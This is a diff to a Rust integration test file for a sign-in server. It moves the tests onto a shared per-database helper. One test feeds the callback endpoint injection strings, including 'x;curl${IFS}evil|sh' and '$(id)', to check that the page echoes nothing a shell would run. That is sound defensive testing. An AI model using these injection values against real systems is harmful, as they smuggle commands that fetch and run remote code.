@@ -1,4 +1,4 @@
-use crate::server::Server;
+use crate::place::{Place, on_each_database};
 use crate::support::{Answer, Client, query_of};
 
 /// What a browser keeps between two pages.
@@ -38,10 +38,10 @@ fn attribute<'a>(page: &'a str, before: &str) -> &'a str {
     page[start..].split('"').next().unwrap()
 }
 
-#[tokio::test]
-async fn the_printed_sign_in_address_leads_to_a_token() {
-    let folder = tempfile::tempdir().unwrap();
-    let (server, ready) = Server::ready(&folder.path().join("school.db"));
+on_each_database!(the_printed_sign_in_address_leads_to_a_token);
+
+async fn the_printed_sign_in_address_leads_to_a_token(place: Place) {
+    let (server, ready) = place.ready();
     let text = |path: &str| ready.pointer(path).unwrap().as_str().unwrap().to_owned();
     let (origin, redirect_uri) = (text("/auth_url"), text("/client/redirect_uri"));
     let mut browser = Browser { client: Client::new(), origin: origin.clone(), cookie: String::new() };
@@ -86,8 +86,7 @@ async fn the_printed_sign_in_address_leads_to_a_token() {
 
 #[tokio::test]
 async fn a_callback_shows_nothing_that_a_shell_would_run() {
-    let folder = tempfile::tempdir().unwrap();
-    let (server, ready) = Server::ready(&folder.path().join("school.db"));
+    let (server, ready) = Place::sqlite().ready();
     let origin = ready["base_url"].as_str().unwrap();
     let client = Client::new();
     for code in ["x;curl${IFS}evil|sh", "$(id)", "%60id%60", "<b>"] {
